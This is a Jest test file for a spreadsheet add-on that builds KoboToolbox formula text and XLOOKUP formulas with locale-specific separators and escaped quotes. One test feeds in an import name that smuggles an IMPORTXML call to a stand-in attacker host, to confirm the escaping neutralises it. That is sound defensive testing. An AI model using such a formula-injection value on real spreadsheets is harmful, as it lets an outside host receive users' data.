import { formulaText, lookupText } from '../src/formula-text';

describe('formulaText', () => {
  it('names the stamp last, so that results follow each refresh', () => {
    expect(formulaText({ kind: 'refreshedAt', importName: 'Visits' }, ',')).toBe(
      '=KOBO_REFRESHED_AT("Visits",KOBO_REFRESHED)',
    );
    expect(formulaText({ kind: 'value', importName: 'Visits', id: '7', column: 'age' }, ';')).toBe(
      '=KOBO_VALUE("Visits";"7";"age";KOBO_REFRESHED)',
    );
  });

  it('gives all columns, one, or several as a list that every locale reads the same', () => {
    const rows = (...columns: string[]) => formulaText({ kind: 'rows', importName: 'Visits', columns }, ',');
    expect(rows()).toBe('=KOBO("Visits","",KOBO_REFRESHED)');
    expect(rows('Age, in years')).toBe('=KOBO("Visits","Age, in years",KOBO_REFRESHED)');
    expect(rows('Age, in years', 'Sex')).toBe('=KOBO("Visits",{"Age, in years";"Sex"},KOBO_REFRESHED)');
  });

  it('counts submissions, answers, or equal answers', () => {
    const count = (column: string, value: string) =>
      formulaText({ kind: 'count', importName: 'Visits', column, value }, ';');
    expect(count('', 'left over from another choice')).toBe('=KOBO_COUNT("Visits";"";"";KOBO_REFRESHED)');
    expect(count('sex', '')).toBe('=KOBO_COUNT("Visits";"sex";"";KOBO_REFRESHED)');
    expect(count('sex', 'female')).toBe('=KOBO_COUNT("Visits";"sex";"female";KOBO_REFRESHED)');
  });

  it('lets no name end its quotation marks', () => {
    const importName = 'a";IMPORTXML("https://attacker.example")&"';
    expect(formulaText({ kind: 'rows', importName, columns: ['say "hi"'] }, ',')).toBe(
      '=KOBO("a"";IMPORTXML(""https://attacker.example"")&""","say ""hi""",KOBO_REFRESHED)',
    );
  });
});

describe('lookupText', () => {
  it('refers to its own row and to whole columns, and quotes the name of the sheet', () => {
    const places = { mainSheetName: "L'eau", keyColumn: 'AB', answerColumn: 'B', submissionColumn: 'C' };
    expect(lookupText(places, 7, ';')).toBe(`=XLOOKUP($C7;'L''eau'!$AB:$AB;'L''eau'!$B:$B;"")`);
  });
});
